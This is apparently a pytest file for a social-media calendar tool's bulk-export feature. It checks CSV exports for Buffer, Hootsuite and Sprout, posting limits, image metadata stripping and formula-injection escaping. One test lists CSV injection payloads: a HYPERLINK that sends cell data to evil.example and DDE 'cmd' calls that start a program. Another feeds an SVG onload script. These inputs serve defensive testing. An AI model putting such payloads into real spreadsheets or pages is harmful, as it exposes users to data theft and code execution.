"""`socialcal export buffer|hootsuite|sprout|json`: the files the scheduling tools' bulk uploads
take, checked the way each tool would check them, with formula injection neutralised."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
from pathlib import Path

import pytest

from generator.exports import TOOLS
from generator.project import Project
from generator.rules import Scope
from generator.rules.catalogue import RULES
from generator.views.kpi_report import safe_cell

from .conftest import REPO, VALID_POST, run_main

pytestmark = pytest.mark.usefixtures("pinned")

GOLDEN = Path(__file__).parent / "fixtures" / "exports"
REGENERATE = bool(os.environ.get("SOCIALCAL_REGENERATE_GOLDEN"))
CSV_TOOLS = ("buffer", "hootsuite", "sprout")
APPROVED = VALID_POST + "status: approved\n"


def export(root: Path, *args: str) -> tuple[int, str]:
    return run_main("--root", str(root), "export", *args)


def _channels_with_exports() -> list[str]:
    code, out = export(REPO, "json")
    assert code == 0, out
    return sorted({c["channel"] for p in json.loads(out)["posts"] for c in p["channels"]})


def _golden(name: str, actual: str) -> None:
    path = GOLDEN / name
    if REGENERATE:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(actual.encode("utf-8"))
    assert path.read_bytes().decode("utf-8") == actual, f"{name}: SOCIALCAL_REGENERATE_GOLDEN=1 remakes it"


@pytest.mark.parametrize("tool", CSV_TOOLS)
def test_each_csv_export_of_the_example_content_matches_its_golden_file(tool: str) -> None:
    """Per channel: the file, or (when the tool would refuse a post) the diagnostics and exit code 1."""
    channels = _channels_with_exports()
    assert len(channels) >= 4
    for channel in channels:
        code, out = export(REPO, tool, "--channel", channel)
        assert code in (0, 1), out
        if code == 0:
            out = re.sub(r"^(content/.*\n    hint: .*\n)+", "", out)  # warnings first, on stderr
            _golden(f"{tool}/{channel}.csv", out)
        else:
            _golden(f"{tool}/{channel}.refused.txt", out)


def test_the_json_export_of_the_example_content_matches_its_golden_file() -> None:
    code, out = export(REPO, "json")
    assert code == 0, out
    document = json.loads(out)
    assert document["schema"] == "socialcal-export/1" and document["timezone"] == "Europe/Zurich"
    statuses = {p["status"] for p in document["posts"]}
    assert statuses <= {"approved", "scheduled"}
    _golden("calendar.json", out)


def test_the_golden_buffer_file_has_the_documented_form() -> None:
    rows = list(csv.reader(io.StringIO((GOLDEN / "buffer" / "twitter-cern.csv").read_text(encoding="utf-8"))))
    assert rows[0] == ["Text", "Image URL", "Tags", "Posting Time"]
    for text, image, _tags, when in rows[1:]:
        dt.datetime.strptime(when, "%Y-%m-%d %H:%M")
        assert "utm_source=twitter&utm_medium=social" in text
        assert image == "" or re.fullmatch(
            r"https://cern\.github\.io/socialcal/assets/media/[0-9a-f]{32}\.(jpg|png)", image
        )


# --- each rule's own examples -----------------------------------------------------------------

EXPORT_RULES = sorted(code for code, r in RULES.items() if r.scope is Scope.EXPORT)


@pytest.mark.parametrize("code", EXPORT_RULES)
def test_export_rule_fires_on_its_breaking_example_and_not_on_its_passing_one(code: str, project: Project) -> None:
    rule = RULES[code]
    tool = re.search(r"socialcal export (\w+)", rule.where).group(1)  # type: ignore[union-attr]
    for f in rule.examples.good:
        f.write(project.content)
    status, out = export(project.root, tool)
    assert status == 0 and code not in out, out
    for f in rule.examples.bad:
        f.write(project.content)
    status, out = export(project.root, tool)
    assert code in out and "hint:" in out, out
    assert status == (1 if rule.severity == "error" else 0), out
    if status == 1:
        assert "Nothing was exported" in out


# --- what the tools would refuse --------------------------------------------------------------


def _posts(project: Project, n: int, start: str = "2027-03-02 10:00", step: int = 60, **extra: str) -> None:
    first = dt.datetime.fromisoformat(start)
    for i in range(n):
        when = first + dt.timedelta(minutes=step * i)
        front = APPROVED.replace("2027-03-02 10:00", f"{when:%Y-%m-%d %H:%M}")
        for key, value in extra.items():
            front += f"{key}: {value}\n"
        path = project.content / "posts" / f"p{i:03d}.md"
        path.write_text(f"---\n{front.strip()}\n---\n\nPost number {i}.\n", encoding="utf-8")


def test_buffer_splits_more_than_100_posts_into_files_and_says_so(project: Project, tmp_path: Path) -> None:
    _posts(project, 101)
    status, out = export(project.root, "buffer", "--out", str(tmp_path / "buffer.csv"))
    assert status == 0, out
    assert "split into 2 files" in out
    first = list(csv.reader((tmp_path / "buffer-twitter-cern-1.csv").open(encoding="utf-8")))
    second = list(csv.reader((tmp_path / "buffer-twitter-cern-2.csv").open(encoding="utf-8")))
    assert len(first) == 101 and len(second) == 2  # a header and 100 rows; a header and 1


def test_hootsuite_and_sprout_refuse_more_than_350_per_import(project: Project) -> None:
    _posts(project, 351, step=15)
    for tool in ("hootsuite", "sprout"):
        status, out = export(project.root, tool)
        assert status == 1 and out.count("SC602") == 1 and "350 posts per import" in out, out
    _posts(project, 345, step=15)
    for extra in range(345, 351):
        (project.content / "posts" / f"p{extra:03d}.md").unlink()
    status, out = export(project.root, "hootsuite", "--scheduled", "10")
    assert status == 1 and out.count("SC602") == 5 and "less the 10 already scheduled" in out


def test_sprout_wants_posts_ten_minutes_apart(project: Project) -> None:
    _posts(project, 3, step=9)
    status, out = export(project.root, "sprout")
    assert status == 1 and out.count("SC602") == 2 and "10 minutes apart" in out
    _posts(project, 3, step=10)
    assert export(project.root, "sprout")[0] == 0


def test_hootsuite_refuses_a_message_twice(project: Project) -> None:
    _posts(project, 2)
    for p in (project.content / "posts").glob("*.md"):
        p.write_text(re.sub(r"Post number \d+\.", "The same words.", p.read_text(encoding="utf-8")), encoding="utf-8")
    status, out = export(project.root, "hootsuite")
    assert status == 1 and "SC601" in out and "the same message as 'p000'" in out
    assert export(project.root, "buffer")[0] == 0  # Buffer takes it


def test_drafts_proposals_cancelled_published_and_passed_slots_are_not_exported(project: Project) -> None:
    for i, (status, date) in enumerate(
        [
            ("draft", "2027-03-02 10:00"),
            ("proposed", "2027-03-02 11:00"),
            ("cancelled", "2027-03-02 12:00"),
            ("approved", "2026-11-20 10:00"),  # a passed slot
            ("scheduled", "2027-03-02 13:00"),
            ("approved", "2027-03-02 14:00"),
        ]
    ):
        front = VALID_POST.replace("2027-03-02 10:00", date) + f"status: {status}\n"
        (project.content / "posts" / f"s{i}.md").write_text(f"---\n{front}---\n\nPost {i}.\n", encoding="utf-8")
    status, out = export(project.root, "json")
    assert status == 0, out
    assert [p["id"] for p in json.loads(out)["posts"]] == ["s4", "s5"]
    # Asked for, a passed slot is exported to JSON, and refused by a tool (its time has passed).
    status, out = export(project.root, "json", "--from", "2026-11-01")
    assert [p["id"] for p in json.loads(out)["posts"]] == ["s3", "s4", "s5"]
    status, out = export(project.root, "buffer", "--from", "2026-11-01")
    assert status == 1 and "SC602" in out and "has passed" in out
    status, out = export(project.root, "buffer", "--to", "2027-03-01")
    assert status == 0 and out == "No post to export.\n"


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_every_csv_cell_is_neutralised_against_formula_injection(payload: str) -> None:
    from generator.exports import Row, to_csv

    assert safe_cell(payload) == "'" + payload
    assert safe_cell("A post about =") == "A post about ="

    class Entry:  # the one attribute a row's cells read
        post = channel = outgoing = None

    row = Row(Entry(), dt.datetime(2027, 3, 2, 10, 0), payload, payload, (payload,), payload)  # type: ignore[arg-type]
    for tool in TOOLS.values():
        cells = [c for r in csv.reader(io.StringIO(to_csv(tool, [row]).decode("utf-8"))) for c in r]
        hostile = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert hostile == [], (tool.name, hostile)


@pytest.mark.parametrize("start", ["=1+1 is two", "@CERN is hiring", "-5 degrees at the LHC", "+ news"])
def test_a_text_that_would_be_published_with_an_apostrophe_is_refused(project: Project, start: str) -> None:
    (project.content / "posts" / "a.md").write_text(f"---\n{APPROVED}---\n\n{start}\n", encoding="utf-8")
    for tool in CSV_TOOLS:
        status, out = export(project.root, tool)
        assert status == 1 and "SC601" in out and "leading apostrophe" in out, out
    assert export(project.root, "json")[0] == 0  # JSON is not opened in a spreadsheet


def test_an_image_is_published_without_metadata_and_within_5_mb(project: Project, tmp_path: Path) -> None:
    from PIL import Image

    from generator.published_images import MAX_ORIGINAL_BYTES, ORIGINAL_PX, publish_original

    media = project.root / "media"
    media.mkdir()
    noise = Image.effect_noise((4000, 3000), 120).convert("RGB")
    exif = Image.Exif()
    exif[0x010F] = "Secret camera"  # Make
    exif[0x8825] = {2: (46.0, 14.0, 0.0)}  # GPS
    noise.save(media / "big.jpg", "JPEG", quality=100, exif=exif)
    Image.effect_noise((3000, 3000), 120).convert("RGBA").save(media / "alpha.png", "PNG")
    site = tmp_path / "site"
    for name, ext in (("big.jpg", "jpg"), ("alpha.png", "png")):
        found = publish_original(project.root, f"media/{name}", site)
        assert not isinstance(found, str | Exception), found
        data = (site / found.path).read_bytes()
        assert found.name.endswith("." + ext) and len(data) <= MAX_ORIGINAL_BYTES
        with Image.open(site / found.path) as im:
            assert max(im.size) <= ORIGINAL_PX and not im.getexif() and "exif" not in im.info
        again = publish_original(project.root, f"media/{name}")
        assert again == found  # a stable address: the same image, the same name


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 40, "cannot be published"),  # cut short
        (b"<svg onload=alert(1)>", "cannot be published"),  # another format under an image's name
    ],
)
def test_an_image_that_cannot_be_published_is_refused_per_post(project: Project, data: bytes, says: str) -> None:
    (project.root / "media").mkdir()
    (project.root / "media" / "x.png").write_bytes(data)
    front = APPROVED + "media: [{src: media/x.png, alt: The LHC}]\n"
    (project.content / "posts" / "a.md").write_text(f"---\n{front}---\n\nText.\n", encoding="utf-8")
    status, out = export(project.root, "buffer")
    assert status == 1 and "SC601" in out and says in out and "a.md:9:" in out, out


def test_without_a_public_site_address_the_export_is_a_usage_error(project: Project) -> None:
    mkdocs = project.root / "mkdocs.yml"
    mkdocs.write_text(re.sub(r"(?m)^site_url:.*$", "", mkdocs.read_text(encoding="utf-8")), encoding="utf-8")
    status, out = export(project.root, "buffer")
    assert status == 2 and "site_url" in out


def test_several_files_need_out_and_unknown_channels_are_refused(project: Project) -> None:
    _posts(project, 1)
    (project.content / "posts" / "fb.md").write_text(
        f"---\n{APPROVED.replace('twitter-cern', 'facebook-cern')}---\n\nOn Facebook.\n", encoding="utf-8"
    )
    status, out = export(project.root, "buffer")
    assert status == 2 and "give --out FILE" in out
    status, out = export(project.root, "buffer", "--channel", "nope")
    assert status == 2 and "unknown channel 'nope'" in out
